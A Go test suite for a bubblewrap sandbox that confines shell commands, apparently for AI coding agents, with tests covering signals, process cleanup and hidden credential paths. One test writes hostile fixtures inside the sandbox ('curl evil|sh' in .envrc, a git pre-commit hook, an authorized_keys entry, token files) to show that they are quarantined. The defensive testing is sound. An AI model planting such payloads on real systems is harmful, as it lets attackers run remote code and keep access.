package sandbox

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// The test binary doubles as a "safeexec" that starts a sandbox and can be
// killed with SIGKILL: argv[1] == bwTestParentArg.
const bwTestParentArg = "__bwrap_test_parent"

func init() {
	if len(os.Args) > 3 && os.Args[1] == bwTestParentArg {
		os.Exit(bwTestParent(os.Args[2], os.Args[3] == "limits", os.Args[4:]))
	}
	if len(os.Args) > 1 && os.Args[1] == seccompChildArg {
		os.Exit(seccompChild())
	}
}

// bwTestParent runs argv in a compat sandbox rooted at dir, prints the
// sandbox init's pid, and waits.
func bwTestParent(dir string, limits bool, argv []string) int {
	b, _, err := Detect("bwrap")
	if err != nil {
		fmt.Println("error", err)
		return 1
	}
	p := &Policy{Mode: Compat, Cwd: dir, WritableRoots: []string{dir},
		DenyWrite: []string{".envrc", ".git/hooks"}}
	if limits {
		p.Limits.Processes = 50
	}
	proc, err := b.Start(p, &Command{Argv: argv, Env: []string{"PATH=/usr/bin:/bin"}, Stderr: os.Stderr})
	if err != nil {
		fmt.Println("error", err)
		return 1
	}
	fmt.Println("started", proc.(*bwrapProcess).childPID)
	st, _ := proc.Wait()
	return st.ExitCode
}

// bwBackend returns the bwrap backend, skipping the test when bwrap cannot
// run here (failing instead under SAFEEXEC_REQUIRE_SANDBOX=1).
func bwBackend(t testing.TB) Backend {
	t.Helper()
	b, _, err := Detect("bwrap")
	if err != nil {
		if os.Getenv("SAFEEXEC_REQUIRE_SANDBOX") == "1" {
			t.Fatalf("bwrap required: %v", err)
		}
		t.Skipf("bwrap unavailable: %v", err)
	}
	return b
}

// bwPolicy is a compat policy with dir as the working directory and only
// writable root.
func bwPolicy(t testing.TB, dir string) *Policy {
	t.Helper()
	return &Policy{Mode: Compat, Cwd: dir, WritableRoots: []string{dir}}
}

var bwEnv = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "LC_ALL=C"}

type bwResult struct {
	Status
	stdout, stderr string
}

func bwRun(t testing.TB, p *Policy, argv ...string) bwResult {
	t.Helper()
	return bwRunEnv(t, p, bwEnv, argv...)
}

func bwRunEnv(t testing.TB, p *Policy, env []string, argv ...string) bwResult {
	t.Helper()
	b := bwBackend(t)
	var out, errb bytes.Buffer
	proc, err := b.Start(p, &Command{Argv: argv, Env: env, Stdout: &out, Stderr: &errb})
	if err != nil {
		t.Fatalf("start %q: %v", argv, err)
	}
	st, err := proc.Wait()
	if err != nil && st.ExitCode != 127 {
		t.Fatalf("wait %q: %v", argv, err)
	}
	return bwResult{st, out.String(), errb.String()}
}

func bwSh(t testing.TB, p *Policy, script string) bwResult {
	t.Helper()
	return bwRun(t, p, "/bin/sh", "-c", script)
}

// bwStart starts argv and returns the process and a reader of its stdout.
func bwStart(t testing.TB, p *Policy, argv ...string) (Process, *bufio.Reader) {
	t.Helper()
	b := bwBackend(t)
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	proc, err := b.Start(p, &Command{Argv: argv, Env: bwEnv, Stdout: w, Stderr: os.Stderr})
	w.Close()
	if err != nil {
		r.Close()
		t.Fatalf("start %q: %v", argv, err)
	}
	t.Cleanup(func() { proc.Kill(); proc.Wait(); r.Close() })
	return proc, bufio.NewReader(r)
}

func bwReadLine(t testing.TB, r *bufio.Reader) string {
	t.Helper()
	line, err := r.ReadString('\n')
	if err != nil {
		t.Fatalf("read from command: %v (got %q)", err, line)
	}
	return strings.TrimSpace(line)
}

// bwEventually polls cond for up to d.
func bwEventually(d time.Duration, cond func() bool) bool {
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		if cond() {
			return true
		}
		time.Sleep(20 * time.Millisecond)
	}
	return cond()
}

// bwPidNSMembers counts live (not zombie) host processes in the pid
// namespace ns.
func bwPidNSMembers(ns string) int {
	n := 0
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		if l, err := os.Readlink("/proc/" + e.Name() + "/ns/pid"); err != nil || l != ns {
			continue
		}
		if st, err := os.ReadFile("/proc/" + e.Name() + "/stat"); err == nil && strings.Contains(string(st), ") Z ") {
			continue
		}
		n++
	}
	return n
}

func bwEntries(t testing.TB, dir string) []string {
	t.Helper()
	es, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range es {
		names = append(names, e.Name())
	}
	return names
}

func TestBwrapExitStatus(t *testing.T) {
	dir := t.TempDir()
	p := bwPolicy(t, dir)
	for _, c := range []struct {
		script       string
		code, signal int
	}{
		{"exit 0", 0, 0},
		{"exit 3", 3, 0},
		{"exit 255", 255, 0},
		{"kill -TERM $$", 128 + 15, 15},
		{"kill -KILL $$", 128 + 9, 9},
		{"kill -SEGV $$", 128 + 11, 11},
	} {
		r := bwSh(t, p, c.script)
		if r.ExitCode != c.code || r.Signal != c.signal {
			t.Errorf("%s: got exit %d signal %d, want %d %d (stderr %q)", c.script, r.ExitCode, r.Signal, c.code, c.signal, r.stderr)
		}
	}
}

func TestBwrapNotFoundNotExecutable(t *testing.T) {
	dir := t.TempDir()
	p := bwPolicy(t, dir)
	if r := bwRun(t, p, "no-such-command-xyz"); r.ExitCode != 127 {
		t.Errorf("missing command: exit %d, want 127", r.ExitCode)
	}
	if r := bwRun(t, p, "./missing.sh"); r.ExitCode != 127 {
		t.Errorf("missing ./script: exit %d, want 127", r.ExitCode)
	}
	if err := os.WriteFile(filepath.Join(dir, "noexec.sh"), []byte("#!/bin/sh\necho hi\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if r := bwRun(t, p, "./noexec.sh"); r.ExitCode != 126 {
		t.Errorf("not executable: exit %d, want 126", r.ExitCode)
	}
	if r := bwRun(t, p, dir); r.ExitCode != 126 {
		t.Errorf("a directory: exit %d, want 126", r.ExitCode)
	}
	// Found on the host but hidden inside (strict mode does not show
	// the temporary directory): 127, and no setup error.
	hidden := t.TempDir()
	tool := filepath.Join(hidden, "tool")
	if err := os.WriteFile(tool, []byte("#!/bin/sh\necho ran\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	sp := bwPolicy(t, dir)
	sp.Mode = Strict
	if r := bwRun(t, sp, tool); r.ExitCode != 127 || strings.Contains(r.stdout, "ran") {
		t.Errorf("hidden in strict mode: exit %d, stdout %q, want 127", r.ExitCode, r.stdout)
	}
}

func TestBwrapStdio(t *testing.T) {
	b := bwBackend(t)
	dir := t.TempDir()
	var out bytes.Buffer
	proc, err := b.Start(bwPolicy(t, dir), &Command{
		Argv: []string{"/bin/sh", "-c", "tr a-z A-Z; echo err >&2; echo three >&3"},
		Env:  bwEnv, Stdin: strings.NewReader("hello\n"), Stdout: &out, Stderr: &out,
		ExtraFiles: []*os.File{bwPipeWriter(t, "three")},
	})
	if err != nil {
		t.Fatal(err)
	}
	if st, err := proc.Wait(); err != nil || st.ExitCode != 0 {
		t.Fatalf("exit %v %v", st, err)
	}
	if got := out.String(); got != "HELLO\nerr\n" {
		t.Errorf("stdout+stderr %q", got)
	}
}

// bwPipeWriter returns the write end of a pipe whose reader expects want.
func bwPipeWriter(t *testing.T, want string) *os.File {
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan string, 1)
	go func() { b, _ := io.ReadAll(r); r.Close(); done <- string(b) }()
	t.Cleanup(func() {
		w.Close()
		if got := <-done; strings.TrimSpace(got) != want {
			t.Errorf("extra file got %q, want %q", got, want)
		}
	})
	return w
}

func TestBwrapSignalReachesHandler(t *testing.T) {
	dir := t.TempDir()
	proc, out := bwStart(t, bwPolicy(t, dir), "/bin/sh", "-c",
		`trap 'echo handled; exit 42' INT; echo ready; while :; do sleep 0.05; done`)
	if got := bwReadLine(t, out); got != "ready" {
		t.Fatalf("got %q", got)
	}
	if err := proc.Signal(syscall.SIGINT); err != nil {
		t.Fatalf("signal: %v", err)
	}
	if got := bwReadLine(t, out); got != "handled" {
		t.Fatalf("handler output %q", got)
	}
	st, err := proc.Wait()
	if err != nil || st.ExitCode != 42 {
		t.Fatalf("exit %+v %v, want 42", st, err)
	}
	if err := proc.Signal(syscall.SIGINT); !errors.Is(err, os.ErrProcessDone) {
		t.Errorf("signal after wait: %v", err)
	}
}

func TestBwrapSignalTerminates(t *testing.T) {
	for _, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGHUP, syscall.SIGQUIT, syscall.SIGINT} {
		proc, out := bwStart(t, bwPolicy(t, t.TempDir()), "/bin/sh", "-c", "echo ready; exec sleep 100")
		bwReadLine(t, out)
		if err := proc.Signal(sig); err != nil {
			t.Fatal(err)
		}
		st, err := proc.Wait()
		if err != nil || st.Signal != int(sig) || st.ExitCode != 128+int(sig) {
			t.Errorf("%v: got %+v %v", sig, st, err)
		}
	}
}

func TestBwrapKillEndsTree(t *testing.T) {
	dir := t.TempDir()
	proc, out := bwStart(t, bwPolicy(t, dir), "/bin/sh", "-c", "sleep 100 & sleep 100 & echo ready; wait")
	bwReadLine(t, out)
	ns, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/pid", proc.(*bwrapProcess).childPID))
	if err != nil {
		t.Fatal(err)
	}
	if n := bwPidNSMembers(ns); n < 3 {
		t.Fatalf("expected the sandbox's processes, found %d", n)
	}
	if err := proc.Kill(); err != nil {
		t.Fatal(err)
	}
	st, _ := proc.Wait()
	if st.ExitCode != 128+9 {
		t.Errorf("exit %+v", st)
	}
	if n := bwPidNSMembers(ns); n != 0 {
		t.Errorf("%d processes left after Kill+Wait", n)
	}
}

func TestBwrapWaitMeansTreeGone(t *testing.T) {
	dir := t.TempDir()
	proc, out := bwStart(t, bwPolicy(t, dir), "/bin/sh", "-c", "setsid sleep 100 & nohup sleep 100 >/dev/null 2>&1 & echo ready; exit 5")
	bwReadLine(t, out)
	ns, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/pid", proc.(*bwrapProcess).childPID))
	if err != nil {
		t.Skip("sandbox already gone before its namespace could be read")
	}
	st, _ := proc.Wait()
	if st.ExitCode != 5 {
		t.Errorf("exit %+v", st)
	}
	if n := bwPidNSMembers(ns); n != 0 {
		t.Errorf("%d background processes survived the command", n)
	}
}

// TestBwrapParentSIGKILL kills the process that started the sandbox with
// SIGKILL and checks that the whole tree and the run's cgroup are gone
// within two seconds.
func TestBwrapParentSIGKILL(t *testing.T) {
	t.Run("plain", func(t *testing.T) { testParentSIGKILL(t, false) })
	t.Run("limits", func(t *testing.T) { testParentSIGKILL(t, true) })
}

func testParentSIGKILL(t *testing.T, limits bool) {
	bwBackend(t)
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	mode := "nolimits"
	if limits {
		mode = "limits"
	}
	cmd := exec.Command(exe, bwTestParentArg, dir, mode, "/bin/sh", "-c", "sleep 100 & sleep 100")
	cmd.Dir = dir
	cmd.Stderr = os.Stderr
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	line := bwReadLine(t, bufio.NewReader(stdout))
	pid, err := strconv.Atoi(strings.TrimPrefix(line, "started "))
	if err != nil {
		cmd.Process.Kill()
		cmd.Wait()
		t.Fatalf("helper: %q", line)
	}
	ns, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/pid", pid))
	if err != nil {
		t.Fatal(err)
	}
	if !bwEventually(2*time.Second, func() bool { return bwPidNSMembers(ns) >= 3 }) {
		t.Fatalf("sandbox did not start its processes")
	}
	// No placeholder for the missing protected paths, not even while the
	// sandbox runs.
	if got := bwEntries(t, dir); len(got) != 1 || got[0] != ".git" {
		t.Errorf("working directory during the run: %v", got)
	}
	// The cgroup's watchdog starts once a run has lasted watchdogDelay.
	time.Sleep(2*watchdogDelay + 100*time.Millisecond)
	cmd.Process.Signal(syscall.SIGKILL)
	cmd.Wait()
	if !bwEventually(2*time.Second, func() bool { return bwPidNSMembers(ns) == 0 }) {
		t.Errorf("%d sandboxed processes still alive 2s after SIGKILL", bwPidNSMembers(ns))
	}
	if !bwEventually(2*time.Second, func() bool {
		left, _ := filepath.Glob(fmt.Sprintf("/sys/fs/cgroup/pids/safeexec-%d-*", cmd.Process.Pid))
		return len(left) == 0
	}) {
		t.Errorf("the run's cgroup was left after SIGKILL")
	}
}

// TestBwrapNoPlaceholders: missing protected and masked paths leave no
// trace, inside or on the host, during the run or after it.
func TestBwrapNoPlaceholders(t *testing.T) {
	dir := t.TempDir()
	home := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, ".git", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	p := bwPolicy(t, dir)
	p.DenyWrite = []string{".envrc", ".env", ".bashrc", ".mcp.json", ".git/hooks", ".git/config", ".husky"}
	p.DenyRead = []string{filepath.Join(home, ".aws"), filepath.Join(home, ".npmrc"), filepath.Join(home, ".config", "gh"),
		filepath.Join(dir, ".ssh")}
	beforeDir, beforeHome := bwEntries(t, dir), bwEntries(t, home)
	r := bwSh(t, p, "ls -a; ls -a .git")
	if r.ExitCode != 0 {
		t.Fatalf("run: %+v", r)
	}
	for _, name := range []string{".envrc", ".env", ".mcp.json", ".husky", ".ssh", ".aws", ".npmrc", ".config", "config"} {
		for _, line := range strings.Split(r.stdout, "\n") {
			if line == name {
				t.Errorf("%s visible inside: %q", name, r.stdout)
			}
		}
	}
	if r.stderr != "" {
		t.Errorf("stderr %q", r.stderr)
	}
	if got := bwEntries(t, dir); strings.Join(got, " ") != strings.Join(beforeDir, " ") {
		t.Errorf("working directory after the run: %v, before %v", got, beforeDir)
	}
	if got := bwEntries(t, home); strings.Join(got, " ") != strings.Join(beforeHome, " ") {
		t.Errorf("home after the run: %v, before %v", got, beforeHome)
	}
	if got := bwEntries(t, filepath.Join(dir, ".git")); strings.Join(got, " ") != "hooks" {
		t.Errorf(".git after the run: %v", got)
	}
}

// bwQuarantine points the quarantine at a fresh state directory and
// returns the quarantine's base.
func bwQuarantine(t *testing.T) string {
	state := t.TempDir()
	t.Setenv("XDG_STATE_HOME", state)
	return filepath.Join(state, "safeexec", "quarantine")
}

// bwQuarantined returns the one run directory in the quarantine base q,
// failing when there is not exactly one.
func bwQuarantined(t *testing.T, q string) string {
	t.Helper()
	es, err := os.ReadDir(q)
	if err != nil || len(es) != 1 {
		t.Fatalf("quarantine %s: %v %v", q, es, err)
	}
	return filepath.Join(q, es[0].Name())
}

// TestBwrapCreatedProtectedPaths: what the command creates at a protected
// or masked path that did not exist does not survive the run: it is moved
// into the quarantine, and stderr says so. Other new files stay.
func TestBwrapCreatedProtectedPaths(t *testing.T) {
	q := bwQuarantine(t)
	dir := t.TempDir() // a home directory as the working directory
	for _, d := range []string{".git", ".config"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	p := bwPolicy(t, dir)
	p.DenyWrite = []string{".envrc", ".git/hooks", ".mcp.json"}
	p.DenyRead = []string{filepath.Join(dir, ".ssh"), filepath.Join(dir, ".config", "gh"), filepath.Join(dir, ".kube", "config")}
	r := bwSh(t, p, `echo 'curl evil|sh' > .envrc
mkdir -p .git/hooks && printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
mkdir -p .ssh && echo ssh-ed25519 AAAA > .ssh/authorized_keys
mkdir -p .config/gh && echo token > .config/gh/hosts.yml
mkdir -p .kube && echo cluster > .kube/config
echo kept > .config/other; echo kept > notes.txt`)
	if r.ExitCode != 0 {
		t.Fatalf("run: %+v", r)
	}
	moved := []string{".envrc", ".git/hooks", ".ssh", ".config/gh", ".kube/config"}
	for _, rel := range moved {
		escAbsent(t, filepath.Join(dir, rel))
	}
	for _, rel := range []string{".config/other", "notes.txt", ".kube"} {
		if _, err := os.Stat(filepath.Join(dir, rel)); err != nil {
			t.Errorf("%s did not survive: %v", rel, err)
		}
	}
	run := bwQuarantined(t, q)
	for rel, want := range map[string]string{
		".envrc": "curl evil|sh\n", ".git/hooks/pre-commit": "#!/bin/sh\necho pwned\n",
		".ssh/authorized_keys": "ssh-ed25519 AAAA\n", ".config/gh/hosts.yml": "token\n", ".kube/config": "cluster\n",
	} {
		if b, err := os.ReadFile(filepath.Join(run, dir, rel)); err != nil || string(b) != want {
			t.Errorf("quarantined %s: %q %v", rel, b, err)
		}
	}
	for _, rel := range moved {
		line := fmt.Sprintf("safeexec: the command created %s, a protected path; moved it to %s\n",
			filepath.Join(dir, rel), filepath.Join(run, dir, rel))
		if !strings.Contains(r.stderr, line) {
			t.Errorf("stderr lacks %q:\n%s", line, r.stderr)
		}
	}
}

// TestBwrapCreatedLinkToProtectedPath: a link the command puts on the way to
// a masked path (~/.config -> a directory with gh/hosts.yml) is moved;
// what it points to is left alone.
func TestBwrapCreatedLinkToProtectedPath(t *testing.T) {
	q := bwQuarantine(t)
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, ".config"), 0o755); err != nil {
		t.Fatal(err)
	}
	p := bwPolicy(t, dir)
	p.DenyRead = []string{filepath.Join(dir, ".config", "gh")}
	r := bwSh(t, p, `mkdir -p elsewhere/gh && echo token > elsewhere/gh/hosts.yml && mv .config .config.old && ln -s elsewhere .config`)
	if r.ExitCode != 0 {
		t.Fatalf("run: %+v", r)
	}
	escAbsent(t, filepath.Join(dir, ".config"))
	if _, err := os.Stat(filepath.Join(dir, "elsewhere", "gh", "hosts.yml")); err != nil {
		t.Errorf("the link's target was touched: %v", err)
	}
	run := bwQuarantined(t, q)
	if l, err := os.Readlink(filepath.Join(run, dir, ".config")); err != nil || l != "elsewhere" {
		t.Errorf("quarantined link: %q %v", l, err)
	}
	if !strings.Contains(r.stderr, "a link to the protected path "+filepath.Join(dir, ".config", "gh")) {
		t.Errorf("stderr %q", r.stderr)
	}
}

// TestBwrapCreatedRemovedAcrossFileSystems: when the quarantine is on
// another file system, what the command created is removed instead.
func TestBwrapCreatedRemovedAcrossFileSystems(t *testing.T) {
	dir := t.TempDir()
	shm, err := os.MkdirTemp("/dev/shm", "safeexec-q-")
	if err != nil {
		t.Skipf("no /dev/shm: %v", err)
	}
	defer os.RemoveAll(shm)
	var a, b syscall.Stat_t
	if syscall.Stat(dir, &a) != nil || syscall.Stat(shm, &b) != nil || a.Dev == b.Dev {
		t.Skip("/dev/shm is not another file system here")
	}
	t.Setenv("XDG_STATE_HOME", shm)
	p := bwPolicy(t, dir)
	p.DenyWrite = []string{".envrc", ".husky"}
	r := bwSh(t, p, `echo evil > .envrc; mkdir -p .husky/_ && echo evil > .husky/_/pre-commit`)
	escAbsent(t, filepath.Join(dir, ".envrc"))
	escAbsent(t, filepath.Join(dir, ".husky"))
	want := "safeexec: the command created " + filepath.Join(dir, ".envrc") + ", a protected path; removed it\n" +
		"safeexec: the command created " + filepath.Join(dir, ".husky") + ", a protected path; removed it\n"
	if r.stderr != want {
		t.Errorf("stderr %q, want %q", r.stderr, want)
	}
}

// TestBwrapSweepFollowsNoLinks: the look after the run never goes through a
// link to a root (a parent replaced by one), and moves a link it finds on
// the way to a protected path without touching its target.
func TestBwrapSweepFollowsNoLinks(t *testing.T) {
	bwQuarantine(t)
	top := t.TempDir()
	real := filepath.Join(top, "real")
	if err := os.MkdirAll(real, 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(real, ".envrc"), []byte("host\n"), 0o644)
	os.Symlink(real, filepath.Join(top, "link"))
	root := filepath.Join(top, "root")
	os.MkdirAll(root, 0o755)
	os.Symlink(real, filepath.Join(root, "sub"))
	var out strings.Builder
	for _, old := range []bool{false, true} {
		testNoOpenat2 = old
		sweepCreated([]watchPath{{Root: filepath.Join(top, "link"), Rel: ".envrc"}}, &out)
		testNoOpenat2 = false
		if b, _ := os.ReadFile(filepath.Join(real, ".envrc")); string(b) != "host\n" || out.Len() != 0 {
			t.Errorf("swept through a linked root (without openat2: %v): %q %q", old, b, out.String())
		}
	}
	// Without openat2, a root that is not linked is walked all the same.
	testNoOpenat2 = true
	sweepCreated([]watchPath{{Root: real, Rel: ".envrc"}}, &out)
	testNoOpenat2 = false
	if _, err := os.Lstat(filepath.Join(real, ".envrc")); err == nil || !strings.Contains(out.String(), "moved it to") {
		t.Errorf("without openat2: %v %q", err, out.String())
	}
	os.WriteFile(filepath.Join(real, ".envrc"), []byte("host\n"), 0o644)
	out.Reset()
	sweepCreated([]watchPath{{Root: root, Rel: "sub/.envrc"}}, &out)
	if b, _ := os.ReadFile(filepath.Join(real, ".envrc")); string(b) != "host\n" {
		t.Errorf("the link's target was moved: %q", b)
	}
	escAbsent(t, filepath.Join(root, "sub"))
	if !strings.Contains(out.String(), "a link to the protected path "+filepath.Join(root, "sub", ".envrc")) {
		t.Errorf("stderr %q", out.String())
	}
}

// TestBwrapConcurrentRunsMissingConfigDir: 30 runs at once, each with a
// masked directory that does not exist inside its writable root (the
// situation of safeexec's own config directory): all succeed, and the host
// never sees anything at that path, so a concurrent safeexec can read it.
func TestBwrapConcurrentRunsMissingConfigDir(t *testing.T) {
	b := bwBackend(t)
	top := t.TempDir()
	const n = 30
	type run struct {
		proc Process
		out  strings.Builder
	}
	runs := make([]*run, n)
	for i := range runs {
		dir := filepath.Join(top, fmt.Sprint(i))
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		p := &Policy{Mode: Compat, Cwd: dir, WritableRoots: []string{top},
			DenyRead:  []string{filepath.Join(top, "config", "safeexec"), filepath.Join(dir, "config", "safeexec")},
			DenyWrite: []string{".envrc", ".safeexec.toml"}}
		r := &run{}
		proc, err := b.Start(p, &Command{Argv: []string{"/bin/sh", "-c",
			`while [ ! -e ../go ]; do sleep 0.01; done; test ! -e config && test ! -e ../config && echo ok`},
			Env: bwEnv, Stdout: &r.out, Stderr: &r.out})
		if err != nil {
			t.Fatalf("start %d: %v", i, err)
		}
		r.proc = proc
		runs[i] = r
	}
	// Every sandbox exists now; the host sees nothing where the config
	// directories would be.
	for _, d := range []string{top, filepath.Join(top, "7")} {
		if _, err := os.Stat(filepath.Join(d, "config", "safeexec", "config.toml")); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("config path under %s during the runs: %v", d, err)
		}
	}
	if err := os.WriteFile(filepath.Join(top, "go"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	for i, r := range runs {
		st, err := r.proc.Wait()
		if err != nil || st.ExitCode != 0 || r.out.String() != "ok\n" {
			t.Errorf("run %d: %+v %v %q", i, st, err, r.out.String())
		}
	}
	if got := bwEntries(t, top); len(got) != n+1 {
		t.Errorf("top after the runs: %v", got)
	}
}

func TestBwrapModes(t *testing.T) {
	bwBackend(t)
	top, err := os.MkdirTemp(bwFixtureBase(t), ".safeexec-modes-")
	if err != nil {
		t.Skip(err)
	}
	defer os.RemoveAll(top)
	root, other := filepath.Join(top, "root"), filepath.Join(top, "other")
	os.MkdirAll(root, 0o755)
	os.MkdirAll(other, 0o755)
	os.WriteFile(filepath.Join(other, "f"), []byte("x"), 0o644)

	strict := &Policy{Mode: Strict, Cwd: root, WritableRoots: []string{root, other}}
	r := bwSh(t, strict, `echo ok > here; echo $TMPDIR; echo t > "$TMPDIR/t" && cat "$TMPDIR/t"; ls /usr/bin/env; cat `+other+`/f; ls /home /root 2>&1; echo x > `+other+`/g`)
	if r.ExitCode == 127 {
		t.Fatalf("strict: %+v", r)
	}
	if b, _ := os.ReadFile(filepath.Join(root, "here")); string(b) != "ok\n" {
		t.Errorf("strict: first root not writable: %q", r.stderr)
	}
	if !strings.Contains(r.stdout, "/tmp\nt\n/usr/bin/env") {
		t.Errorf("strict: tmp or /usr missing: %q %q", r.stdout, r.stderr)
	}
	if strings.Contains(r.stdout, "x") && !strings.Contains(r.stderr, other) {
		t.Errorf("strict: second root visible: %q", r.stdout)
	}
	if _, err := os.Stat(filepath.Join(other, "g")); err == nil {
		t.Errorf("strict: second root writable")
	}

	bwQuarantine(t)
	perm := &Policy{Mode: Permissive, Cwd: root, WritableRoots: []string{root},
		DenyRead: []string{filepath.Join(other, "f")}, DenyWrite: []string{".envrc"}}
	r = bwSh(t, perm, `echo y > `+other+`/h; cat `+other+`/f; echo z > .envrc`)
	if b, _ := os.ReadFile(filepath.Join(other, "h")); string(b) != "y\n" {
		t.Errorf("permissive: outside not writable: %q", r.stderr)
	}
	if strings.Contains(r.stdout, "x") {
		t.Errorf("permissive: deny_read not applied")
	}
	if _, err := os.Lstat(filepath.Join(root, ".envrc")); err == nil {
		t.Errorf("permissive: deny_write not applied")
	}
}

func TestBwrapCacheDir(t *testing.T) {
	dir, cache := t.TempDir(), t.TempDir()
	p := bwPolicy(t, dir)
	p.CacheDir = filepath.Join(cache, "safeexec")
	env := append([]string{"HOME=/nonexistent", "GOCACHE=" + filepath.Join(p.CacheDir, "go-build"), "XDG_CACHE_HOME=" + filepath.Join(p.CacheDir, "xdg")}, bwEnv...)
	r := bwRunEnv(t, p, env, "/bin/sh", "-c", `mkdir -p "$GOCACHE" && echo c > "$GOCACHE/x" && echo "$XDG_CACHE_HOME"`)
	if r.ExitCode != 0 {
		t.Fatalf("%+v", r)
	}
	if b, _ := os.ReadFile(filepath.Join(p.CacheDir, "go-build", "x")); string(b) != "c\n" {
		t.Errorf("cache not writable: %q", r.stderr)
	}
	if strings.TrimSpace(r.stdout) != filepath.Join(p.CacheDir, "xdg") {
		t.Errorf("XDG_CACHE_HOME = %q", r.stdout)
	}
}

func TestBwrapPrivateTmp(t *testing.T) {
	dir := t.TempDir()
	marker := filepath.Join(os.TempDir(), fmt.Sprintf("safeexec-tmp-%d", os.Getpid()))
	os.WriteFile(marker, []byte("host"), 0o644)
	defer os.Remove(marker)
	p := bwPolicy(t, dir)
	p.WritableRoots = append(p.WritableRoots, os.TempDir())
	r := bwSh(t, p, `echo "$TMPDIR"; cat `+marker+` 2>&1; echo sandbox > `+marker+`.new; ls /tmp | wc -l`)
	if strings.Contains(r.stdout, "host") {
		t.Errorf("the host's /tmp is visible: %q", r.stdout)
	}
	if _, err := os.Stat(marker + ".new"); err == nil {
		os.Remove(marker + ".new")
		t.Errorf("a write to the private /tmp reached the host")
	}
}

func TestDoctorBwrap(t *testing.T) {
	bwBackend(t)
	_, r, err := Doctor("bwrap")
	if err != nil {
		t.Fatal(err)
	}
	if r.Version == "" {
		t.Errorf("no version: %+v", r)
	}
	ok := false
	for _, c := range r.Checks {
		if c.Name == "sandbox starts" {
			ok = c.OK
		}
	}
	if !ok {
		t.Errorf("sandbox start check: %+v", r.Checks)
	}
}

// bwFixtureBase is a directory outside /tmp and /var/tmp for fixtures the
// sandbox must see as the host has them (it has a private /tmp).
func bwFixtureBase(t *testing.T) string {
	t.Helper()
	base, err := os.UserHomeDir()
	if err != nil || base == "" {
		t.Skip("no home directory for the fixture")
	}
	for _, tmp := range []string{os.TempDir(), "/tmp", "/var/tmp"} {
		if pathWithin(tmp, base) {
			t.Skipf("home directory %s is under %s, which the sandbox replaces", base, tmp)
		}
	}
	return base
}

// TestBwrapFileRoot: Claude Code's wrapper ends with `pwd -P >| /tmp/…-cwd`
// and reads that file afterwards; naming it as a writable root lets the
// write reach the host although /tmp is private.
func TestBwrapFileRoot(t *testing.T) {
	dir := t.TempDir()
	f, err := os.CreateTemp("", "claude-test-*-cwd")
	if err != nil {
		t.Fatal(err)
	}
	f.Close()
	defer os.Remove(f.Name())
	p := bwPolicy(t, dir)
	p.WritableRoots = append(p.WritableRoots, f.Name())
	if r := bwSh(t, p, "pwd -P >| "+f.Name()+"; echo other > "+f.Name()+".x"); r.ExitCode != 0 {
		t.Fatalf("%+v", r)
	}
	if b, _ := os.ReadFile(f.Name()); strings.TrimSpace(string(b)) != dir {
		t.Errorf("cwd file holds %q, want %q", b, dir)
	}
	if _, err := os.Stat(f.Name() + ".x"); err == nil {
		os.Remove(f.Name() + ".x")
		t.Errorf("a sibling in the host's /tmp was written")
	}
}
